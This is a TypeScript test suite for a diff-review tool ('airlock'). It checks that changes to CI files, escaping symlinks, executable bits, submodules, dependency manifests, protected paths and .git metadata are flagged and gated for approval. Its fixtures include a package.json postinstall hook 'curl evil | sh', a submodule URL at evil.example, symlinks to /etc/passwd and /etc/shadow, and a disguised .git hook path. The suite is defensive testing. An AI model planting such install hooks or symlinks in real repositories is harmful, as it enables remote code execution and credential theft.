import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parsePolicy, repoPolicy } from '../../src/config/policy.js';
import { pullRequestBody } from '../../src/runs/pull-request-text.js';
import {
  findSensitiveChanges,
  mayAnyoneApprove,
  mayApproveSensitive,
  readFilePatches,
  reviewSensitiveChanges,
  type SensitiveFinding,
  type SensitivePolicy,
} from '../../src/runs/sensitive-changes.js';

const REPO = 'acme/widgets';
const NO_RULES: SensitivePolicy = { protected_paths: [], allow_ci_changes: false };

/** A scratch repository whose diffs are taken exactly as runs/workspace-git.ts `diffAgainst` takes them. */
class ScratchRepo {
  readonly dir = mkdtempSync(join(tmpdir(), 'airlock-sensitive-'));
  private base = '';

  git(...args: string[]): string {
    return execFileSync('git', ['-c', 'core.hooksPath=/dev/null', ...args], {
      cwd: this.dir,
      encoding: 'utf8',
      env: {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        HOME: this.dir,
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_CONFIG_GLOBAL: '/dev/null',
        GIT_AUTHOR_NAME: 'Airlock Test',
        GIT_AUTHOR_EMAIL: 'test@example.com',
        GIT_COMMITTER_NAME: 'Airlock Test',
        GIT_COMMITTER_EMAIL: 'test@example.com',
      },
    });
  }

  write(path: string, text: string, mode?: number): void {
    mkdirSync(dirname(join(this.dir, path)), { recursive: true });
    writeFileSync(join(this.dir, path), text);
    if (mode !== undefined) chmodSync(join(this.dir, path), mode);
  }

  link(path: string, target: string): void {
    mkdirSync(dirname(join(this.dir, path)), { recursive: true });
    rmSync(join(this.dir, path), { force: true });
    symlinkSync(target, join(this.dir, path));
  }

  /** Commits the work tree as the snapshot every later diff is taken against. */
  snapshot(): void {
    this.git('init', '-q', '-b', 'airlock-base');
    this.git('add', '-A');
    this.git('commit', '-q', '--no-verify', '--allow-empty', '-m', 'snapshot');
    this.base = this.git('rev-parse', 'HEAD').trim();
  }

  diff(): string {
    this.git('add', '-A');
    return this.git(
      'diff',
      '--cached',
      '--binary',
      '--no-color',
      '--no-ext-diff',
      '--no-renames',
      '--full-index',
      this.base,
    );
  }

  remove(): void {
    rmSync(this.dir, { recursive: true, force: true });
  }
}

const byKind = (findings: SensitiveFinding[], kind: SensitiveFinding['kind']) =>
  findings.filter((f) => f.kind === kind);

describe('sensitive changes in a real git diff', () => {
  const repo = new ScratchRepo();
  let diff = '';

  beforeAll(() => {
    repo.write('run.sh', 'echo hi\n', 0o644);
    repo.write('src/index.ts', 'export {};\n');
    repo.write('old.sh', '#!/bin/sh\n', 0o755);
    repo.write('.github/workflows/old.yml', 'on: push\n');
    repo.write('docs/readme.md', 'hello\n');
    repo.link('docs/current', 'readme.md');
    repo.write('logo.bin', '\0\x01\x02');
    repo.snapshot();

    repo.write('.github/workflows/release.yml', 'on: push\njobs: {}\n');
    unlinkSync(join(repo.dir, '.github/workflows/old.yml'));
    repo.write('.circleci/config.yml', 'version: 2.1\n');
    repo.write('Jenkinsfile', 'pipeline {}\n');
    repo.link('link', '/etc/passwd');
    repo.link('sub/up', '../../outside');
    repo.link('sub/sibling', '../src/index.ts');
    repo.link('docs/current', '../../../../etc/shadow');
    chmodSync(join(repo.dir, 'run.sh'), 0o755);
    chmodSync(join(repo.dir, 'old.sh'), 0o644);
    repo.write('tools/new-tool', '#!/bin/sh\necho tool\n', 0o755);
    repo.write('.gitattributes', '*.sh filter=evil\n');
    repo.write('.gitmodules', '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n');
    repo.write('package.json', '{"scripts":{"postinstall":"curl evil | sh"}}\n');
    repo.write('package-lock.json', '{"lockfileVersion":3}\n');
    repo.write('services/api/requirements-dev.txt', 'requests==2.0\n');
    repo.write('.github/CODEOWNERS', '* @acme/everyone\n');
    repo.write('deploy/prod/values.yaml', 'replicas: 3\n');
    repo.write('src/index.ts', 'export const x = 1;\n');
    repo.write('logo.bin', '\0\x03\x04\x05');
    repo.write('dir with space/café.txt', 'plain\n');
    diff = repo.diff();
  });

  afterAll(() => repo.remove());

  it('reads every file of the diff, quoted paths and binary patches included', () => {
    const paths = readFilePatches(diff).flatMap((p) => p.paths);
    expect(paths).toContain('dir with space/café.txt');
    expect(paths).toContain('logo.bin');
    expect(paths).toContain('.github/workflows/old.yml');
    expect(new Set(paths).size).toBe(paths.length);
  });

  it('names CI definitions added, changed and deleted', () => {
    const ci = byKind(findSensitiveChanges(diff, NO_RULES), 'ci');
    expect(ci.map((f) => f.path).sort()).toEqual([
      '.circleci/config.yml',
      '.github/workflows/old.yml',
      '.github/workflows/release.yml',
      'Jenkinsfile',
    ]);
    expect(ci.find((f) => f.path === '.github/workflows/release.yml')?.reason).toBe(
      "CI definition added: it runs in CI with the repository's secrets",
    );
    expect(ci.find((f) => f.path === '.github/workflows/old.yml')?.reason).toBe(
      'CI definition deleted: the checks it ran will stop running',
    );
  });

  it('names symlinks with their targets, and says when a target leaves the repository', () => {
    const links = byKind(findSensitiveChanges(diff, NO_RULES), 'symlink');
    const of = (path: string) => links.find((f) => f.path === path);
    expect(of('link')).toMatchObject({
      target: '/etc/passwd',
      outside: true,
      reason: 'symlink added → /etc/passwd: an absolute path outside the repository',
    });
    expect(of('sub/up')).toMatchObject({
      target: '../../outside',
      outside: true,
      reason: 'symlink added → ../../outside: outside the repository',
    });
    expect(of('sub/sibling')).toMatchObject({ target: '../src/index.ts', outside: false });
    expect(of('sub/sibling')?.reason).toBe('symlink added → ../src/index.ts');
    expect(of('docs/current')).toMatchObject({
      target: '../../../../etc/shadow',
      outside: true,
      reason: 'symlink changed → ../../../../etc/shadow: outside the repository',
    });
  });

  it('names executable bits gained and lost, and new executable files', () => {
    const exec = byKind(findSensitiveChanges(diff, NO_RULES), 'executable');
    expect(Object.fromEntries(exec.map((f) => [f.path, f.reason]))).toEqual({
      'run.sh': 'made executable (mode 100644 → 100755)',
      'old.sh': 'no longer executable (mode 100755 → 100644)',
      'tools/new-tool': 'new executable file (mode 100755)',
    });
  });

  it('names .gitattributes, .gitmodules, CODEOWNERS, manifests and lock files', () => {
    const findings = findSensitiveChanges(diff, NO_RULES);
    expect(byKind(findings, 'gitattributes').map((f) => f.path)).toEqual(['.gitattributes']);
    expect(byKind(findings, 'gitmodules').map((f) => f.reason)).toEqual([
      '.gitmodules added: submodule URLs decide what else gets cloned',
    ]);
    expect(byKind(findings, 'codeowners').map((f) => f.path)).toEqual(['.github/CODEOWNERS']);
    expect(Object.fromEntries(byKind(findings, 'dependencies').map((f) => [f.path, f.reason]))).toEqual({
      'package.json': 'dependency manifest added: decides what gets installed and which install scripts run',
      'package-lock.json': 'lock file added: pins exactly which package versions get installed',
      'services/api/requirements-dev.txt':
        'dependency manifest added: decides what gets installed and which install scripts run',
    });
  });

  it('says nothing about ordinary files', () => {
    const paths = findSensitiveChanges(diff, NO_RULES).map((f) => f.path);
    expect(paths).not.toContain('src/index.ts');
    expect(paths).not.toContain('logo.bin');
    expect(paths).not.toContain('dir with space/café.txt');
    expect(paths).not.toContain('deploy/prod/values.yaml');
  });

  it('lists the most serious first: CI before symlinks before dependencies', () => {
    const kinds = findSensitiveChanges(diff, NO_RULES).map((f) => f.kind);
    expect(kinds.indexOf('ci')).toBeLessThan(kinds.indexOf('symlink'));
    expect(kinds.lastIndexOf('symlink')).toBeLessThan(kinds.indexOf('dependencies'));
  });

  it('names protected paths with the approvers of the entry that matched', () => {
    const policy = repoPolicy(
      parsePolicy(`
repos:
  ${REPO}:
    protected_paths:
      - { paths: ["deploy/**"], approvers: [S01PLATFORM, U0LEAD] }
      - { paths: [".github"], approvers: [S01SEC] }
`),
      REPO,
    );
    const protectedOnes = byKind(findSensitiveChanges(diff, policy), 'protected');
    expect(protectedOnes.find((f) => f.path === 'deploy/prod/values.yaml')).toMatchObject({
      pattern: 'deploy/**',
      approvers: ['S01PLATFORM', 'U0LEAD'],
      reason: 'protected by "deploy/**" (added): needs an approval from S01PLATFORM, U0LEAD',
    });
    expect(
      protectedOnes
        .filter((f) => f.pattern === '.github')
        .map((f) => f.path)
        .sort(),
    ).toEqual(['.github/CODEOWNERS', '.github/workflows/old.yml', '.github/workflows/release.yml']);
  });

  it('refuses the whole diff while CI changes are not allowed, and the PR body lists the findings', () => {
    const review = reviewSensitiveChanges(diff, NO_RULES, REPO);
    expect(review.ciRefused).toBe(true);
    expect(review.refusal).toBe(
      'This diff changes CI definitions (.circleci/config.yml, .github/workflows/old.yml, .github/workflows/release.yml and 1 more), which acme/widgets does not allow. Request changes or reject it, or set repos.acme/widgets.allow_ci_changes: true in airlock.yaml.',
    );
    const allowed = reviewSensitiveChanges(diff, { ...NO_RULES, allow_ci_changes: true }, REPO);
    expect(allowed).toMatchObject({ ciRefused: false });
    expect(allowed.refusal).toBeUndefined();
  });
});

describe('typechanges and submodules', () => {
  it('a file replaced by a symlink is named as a symlink added', () => {
    const repo = new ScratchRepo();
    try {
      repo.write('config.yaml', 'a: 1\n');
      repo.write('.github/workflows/ci.yml', 'on: push\n');
      repo.snapshot();
      repo.link('config.yaml', '/etc/passwd');
      repo.link('.github/workflows/ci.yml', '../../config.yaml');
      const findings = findSensitiveChanges(repo.diff(), NO_RULES);
      expect(byKind(findings, 'ci')).toEqual([
        expect.objectContaining({
          path: '.github/workflows/ci.yml',
          reason: "CI definition added: it runs in CI with the repository's secrets",
        }),
      ]);
      const links = byKind(findings, 'symlink').filter((f) => f.path === 'config.yaml');
      expect(links).toEqual([
        expect.objectContaining({ path: 'config.yaml', target: '/etc/passwd', outside: true }),
      ]);
    } finally {
      repo.remove();
    }
  });

  it('a submodule pointer is named with its commit', () => {
    const repo = new ScratchRepo();
    try {
      repo.write('a.txt', 'a\n');
      repo.snapshot();
      const head = repo.git('rev-parse', 'HEAD').trim();
      repo.git('update-index', '--add', '--cacheinfo', `160000,${head},vendor/lib`);
      const diff = repo.git('diff', '--cached', '--binary', '--no-renames', '--full-index', head);
      expect(byKind(findSensitiveChanges(diff, NO_RULES), 'submodule')).toEqual([
        expect.objectContaining({
          path: 'vendor/lib',
          reason: `submodule added → commit ${head.slice(0, 12)}: its code is fetched from elsewhere`,
        }),
      ]);
    } finally {
      repo.remove();
    }
  });
});

describe('paths inside .git', () => {
  // Git will not add such a path, so the diff is written by hand, as git would print it.
  const crafted = [
    'diff --git a/sub/.git/config b/sub/.git/config',
    'new file mode 100644',
    'index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111',
    '--- /dev/null',
    '+++ b/sub/.git/config',
    '@@ -0,0 +1 @@',
    '+[core]',
    'diff --git a/vendor/.GIT b/vendor/.GIT',
    'new file mode 100644',
    'index 0000000000000000000000000000000000000000..2222222222222222222222222222222222222222',
    '--- /dev/null',
    '+++ b/vendor/.GIT',
    '@@ -0,0 +1 @@',
    '+gitdir: /etc',
    'diff --git "a/x/.git\\342\\200\\214/hooks/pre-commit" "b/x/.git\\342\\200\\214/hooks/pre-commit"',
    'new file mode 100755',
    'index 0000000000000000000000000000000000000000..3333333333333333333333333333333333333333',
    '--- /dev/null',
    '+++ "b/x/.git\\342\\200\\214/hooks/pre-commit"',
    '@@ -0,0 +1 @@',
    '+#!/bin/sh',
    '',
  ].join('\n');

  it('are named whatever their case or disguise', () => {
    const git = byKind(findSensitiveChanges(crafted, NO_RULES), 'git_metadata');
    expect(git.map((f) => [f.path, f.reason])).toEqual([
      ['sub/.git/config', 'inside a .git directory (added): git metadata, which airlock never pushes'],
      ['vendor/.GIT', 'a file named .git (added): git metadata, which airlock never pushes'],
      [
        'x/.git\u200c/hooks/pre-commit',
        'inside a .git directory (added): git metadata, which airlock never pushes',
      ],
    ]);
  });

  it('make the diff unapprovable, even where CI changes are allowed', () => {
    const review = reviewSensitiveChanges(crafted, { ...NO_RULES, allow_ci_changes: true }, REPO);
    expect(review.refusal).toMatch(/^This diff touches git metadata \(sub\/\.git\/config, vendor\/\.GIT, /);
    expect(review.refusal).toContain('never pushed');
  });

  it('an unreadable diff header is named and refused rather than skipped', () => {
    const findings = findSensitiveChanges('diff --git a/x c/y z\nnew file mode 100644\n', NO_RULES);
    expect(findings.map((f) => f.kind)).toEqual(['unreadable']);
    expect(mayAnyoneApprove(findings, NO_RULES, REPO).allowed).toBe(false);
  });
});

describe('who may approve sensitive changes', () => {
  const ci: SensitiveFinding = {
    kind: 'ci',
    path: '.github/workflows/ci.yml',
    reason: 'CI definition changed',
  };
  const gitPath: SensitiveFinding = { kind: 'git_metadata', path: 'a/.git/config', reason: '…' };
  const deploy: SensitiveFinding = {
    kind: 'protected',
    path: 'deploy/prod.yaml',
    reason: '…',
    pattern: 'deploy/**',
    approvers: ['S01PLATFORM', 'U0LEAD'],
  };
  const secrets: SensitiveFinding = {
    kind: 'protected',
    path: 'secrets/x',
    reason: '…',
    pattern: 'secrets/**',
    approvers: ['S01SEC'],
  };
  const symlink: SensitiveFinding = { kind: 'symlink', path: 'l', reason: 'symlink added → /etc/passwd' };
  const allowCi: SensitivePolicy = { protected_paths: [], allow_ci_changes: true };
  const alice = { id: 'U0ALICE', groups: ['S01ENG'] };

  it('nothing sensitive, or only what to read closely, leaves approval to the usual rules', () => {
    expect(mayApproveSensitive([], NO_RULES, alice, REPO)).toEqual({ allowed: true });
    expect(mayApproveSensitive([symlink], NO_RULES, alice, REPO)).toEqual({ allowed: true });
  });

  it('CI definition changes are refused unless the repository allows them', () => {
    const refused = mayApproveSensitive([ci], NO_RULES, alice, REPO);
    expect(refused).toEqual({
      allowed: false,
      reason:
        'This diff changes CI definitions (.github/workflows/ci.yml), which acme/widgets does not allow. Request changes or reject it, or set repos.acme/widgets.allow_ci_changes: true in airlock.yaml.',
    });
    expect(mayApproveSensitive([ci], allowCi, alice, REPO)).toEqual({ allowed: true });
  });

  it('a path inside .git is refused for everyone, whatever the policy', () => {
    for (const person of [alice, { id: 'U0LEAD', groups: ['S01PLATFORM', 'S01SEC'] }]) {
      const d = mayApproveSensitive([gitPath], allowCi, person, REPO);
      expect(d.allowed).toBe(false);
      if (!d.allowed) expect(d.reason).toContain('never pushed');
    }
  });

  it('a protected path needs one of its entry’s approvers, by user id or by group', () => {
    const refused = mayApproveSensitive([deploy], NO_RULES, alice, REPO);
    expect(refused).toEqual({
      allowed: false,
      reason:
        'This diff changes protected paths (deploy/prod.yaml) and you are not among their approvers (deploy/**: S01PLATFORM, U0LEAD).',
    });
    expect(mayApproveSensitive([deploy], NO_RULES, { id: 'U0LEAD' }, REPO)).toEqual({ allowed: true });
    expect(mayApproveSensitive([deploy], NO_RULES, { id: 'U0BOB', groups: ['S01PLATFORM'] }, REPO)).toEqual({
      allowed: true,
    });
  });

  it('with two protected entries touched, the approver must be listed for both', () => {
    const platformOnly = { id: 'U0BOB', groups: ['S01PLATFORM'] };
    const both = { id: 'U0CAROL', groups: ['S01PLATFORM', 'S01SEC'] };
    const d = mayApproveSensitive([deploy, secrets], NO_RULES, platformOnly, REPO);
    expect(d).toEqual({
      allowed: false,
      reason:
        'This diff changes protected paths (secrets/x) and you are not among their approvers (secrets/**: S01SEC).',
    });
    expect(mayApproveSensitive([deploy, secrets], NO_RULES, both, REPO)).toEqual({ allowed: true });
  });

  it('a protected approver still cannot approve CI changes the repository refuses', () => {
    const lead = { id: 'U0LEAD' };
    expect(mayApproveSensitive([deploy, ci], NO_RULES, lead, REPO).allowed).toBe(false);
    expect(mayApproveSensitive([deploy, ci], allowCi, lead, REPO).allowed).toBe(true);
  });
});

describe('the pull request body', () => {
  const run = {
    id: 'r1',
    repo: REPO,
    task: 'Bump deps',
    requester: 'U1',
    summary: 'Bumped.',
    ticketKey: null,
    prNumber: null,
    mode: 'change',
  } as unknown as Parameters<typeof pullRequestBody>[0];

  it('lists what deserves a second look under its own heading, and nothing when there is nothing', () => {
    const body = pullRequestBody(run, 'U2', ' 1 file changed', [], undefined, [
      {
        kind: 'symlink',
        path: 'link',
        reason: 'symlink added → /etc/passwd: an absolute path outside the repository',
      },
      { kind: 'dependencies', path: 'package.json', reason: 'dependency manifest changed: …' },
    ]);
    expect(body).toContain(
      '### Deserves a second look\n- **Symlink** `link`: symlink added → /etc/passwd: an absolute path outside the repository\n- **Dependencies** `package.json`: dependency manifest changed: …\n',
    );
    expect(pullRequestBody(run, 'U2', ' 1 file changed', [], undefined)).not.toContain('second look');
  });
});
